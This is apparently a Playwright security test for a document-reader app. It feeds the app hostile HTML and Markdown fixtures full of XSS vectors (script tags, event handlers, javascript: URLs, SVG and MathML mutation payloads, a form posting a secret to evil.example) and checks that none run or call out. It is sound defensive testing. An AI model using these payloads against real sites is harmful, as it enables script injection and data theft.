// Issue 7: documents carrying scripts, handlers, javascript:/data: URLs, SVG/MathML payloads,
// meta refresh, CSS that fetches, <base> and <form>. Imported and read through the UI, none of
// it runs and no request leaves the app: only the server's own origin is ever contacted.
import fs from 'node:fs';
import path from 'node:path';
import { test, expect, openApp, importThroughUi, closeImportReport } from './support/fixtures.ts';

const EVIL = 'http://evil.example';

const HOSTILE_HTML = `<!doctype html>
<html><head>
<title>Hostile page <img src=x onerror="window.__pwned='title';alert('title')"></title>
<base href="${EVIL}/">
<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">
<link rel="stylesheet" href="${EVIL}/style.css">
<link rel="prefetch" href="${EVIL}/prefetch">
<style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/bg.png) } @font-face { font-family: x; src: url(${EVIL}/font.woff) }</style>
<script>window.__pwned = 'script'; alert('script'); fetch('${EVIL}/script')</script>
</head>
<body onload="window.__pwned='onload';alert('onload')">
<article>
<h1>Hostile payload article</h1>
<p>The payload paragraph begins here. <img src="${EVIL}/pixel.png" onerror="window.__pwned='img';alert('img')"> and continues.</p>
<p><a href="javascript:window.__pwned='js-url';alert('js-url')">javascript link</a> and <a href="data:text/html,<script>alert('data')</script>">data link</a>.</p>
<p><svg onload="window.__pwned='svg';alert('svg')"><script>alert('svg-script')</script><image href="${EVIL}/svg.png"/><a xlink:href="javascript:alert('svg-a')"><text>svg text</text></a></svg></p>
<p><math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss';alert('mxss')"></style></mglyph></table></mtext></math></p>
<p>Literal markup as text: &lt;script&gt;window.__pwned='literal';alert('literal')&lt;/script&gt; and &lt;img src=x onerror=alert('literal-img')&gt; payloadword.</p>
<form action="${EVIL}/steal" method="post"><input name="secret" value="payload"><button formaction="${EVIL}/formaction">Send payload</button></form>
<iframe src="${EVIL}/frame" srcdoc="<script>parent.__pwned='srcdoc';alert('srcdoc')</script>"></iframe>
<object data="${EVIL}/object.swf"></object><embed src="${EVIL}/embed.swf">
<video src="${EVIL}/video.mp4" poster="${EVIL}/poster.png" onerror="alert('video')"></video>
<div style="background-image:url(${EVIL}/inline.png)" onmouseover="alert('hover')">Hover here payload</div>
<p>The article ends with a quotable sentence about payload safety.</p>
</article>
</body></html>`;

const HOSTILE_MD = `# Hostile markdown payload

<script>window.__pwned='md-script';alert('md')</script>

<img src="${EVIL}/md.png" onerror="alert('md-img')">

[a link](javascript:alert('md-link')) and ![img](${EVIL}/md-image.png)

A payloadword line to search for.
`;

test('hostile HTML and Markdown: nothing runs, nothing leaves the app', async ({ page, served }) => {
  const html = path.join(served.work, 'hostile.html');
  const md = path.join(served.work, 'hostile.md');
  fs.writeFileSync(html, HOSTILE_HTML);
  fs.writeFileSync(md, HOSTILE_MD);

  const dialogs: string[] = [];
  const requests: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => requests.push(request.url()));
  page.on('popup', (popup) => requests.push(`popup:${popup.url()}`));

  const response = await page.goto(served.url);
  expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
  await expect(page.getByRole('searchbox', { name: 'Search', exact: true })).toBeVisible();
  await importThroughUi(page, [html, md]);
  await expect(page.getByRole('dialog', { name: /Import/ }).getByRole('status')).toContainText('2 imported');
  await closeImportReport(page);

  // Read each document.
  for (const title of [/Hostile page/, /Hostile markdown payload/]) {
    await page.getByRole('button', { name: 'Library', exact: true }).click();
    await page.getByRole('table', { name: 'Documents' }).getByRole('button', { name: title }).click();
    const text = page.locator('[data-testid="document-text"]');
    await expect(text).toContainText('payload');
    // Only the reader's own elements, with its own attributes: nothing of the document's markup
    // made it into the page (the structure is drawn from data, never from the page's HTML).
    const foreignMarkup = await text.evaluate((root) => {
      const tags = new Set(['p', 'div', 'span', 'h2', 'h3', 'h4', 'h5', 'h6', 'ul', 'ol', 'li', 'blockquote', 'pre', 'code', 'table', 'tbody', 'tr', 'td', 'th', 'caption', 'dl', 'dt', 'dd', 'figure', 'figcaption', 'hr', 'em', 'strong', 'mark', 'a', 'img']);
      const attributes = new Set(['class', 'data-start', 'data-end', 'data-ann', 'data-kind', 'data-color', 'data-alt', 'title', 'role', 'aria-label', 'aria-hidden', 'href', 'rel', 'target', 'value', 'src', 'alt']);
      const found: string[] = [];
      for (const el of root.querySelectorAll('*')) {
        if (!tags.has(el.localName)) found.push(el.localName);
        for (const a of el.attributes) if (!attributes.has(a.name)) found.push(`${el.localName}[${a.name}]`);
        const href = el.getAttribute('href');
        if (href !== null && !/^(https?:|mailto:)/.test(href)) found.push(`href=${href}`);
        const src = el.getAttribute('src');
        if (src !== null && !/^(data:image\/|blob:)/.test(src)) found.push(`src=${src}`);
      }
      return found;
    });
    expect(foreignMarkup).toEqual([]);
    await text.hover();
    await page.waitForTimeout(300);
  }
  await expect(page.locator('[data-testid="document-text"]')).toContainText('payloadword');

  // Search snippets go through {@html}: only <mark> survives.
  await page.getByRole('searchbox', { name: 'Search', exact: true }).fill('payloadword');
  const results = page.locator('#search-results');
  await expect(results.locator('button.hit').first()).toBeVisible();
  await expect(results.locator('.snippet mark').first()).toBeVisible();
  await expect(results.locator('.snippet *:not(mark)')).toHaveCount(0);
  await page.getByRole('searchbox', { name: 'Search', exact: true }).fill('literal img onerror');
  await page.waitForTimeout(400);
  await expect(results.locator('.snippet *:not(mark)')).toHaveCount(0);

  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  const foreign = requests.filter((url) => !url.startsWith(`${served.origin}/`));
  expect(foreign).toEqual([]);
  expect(page.url().startsWith(served.origin)).toBe(true);
});
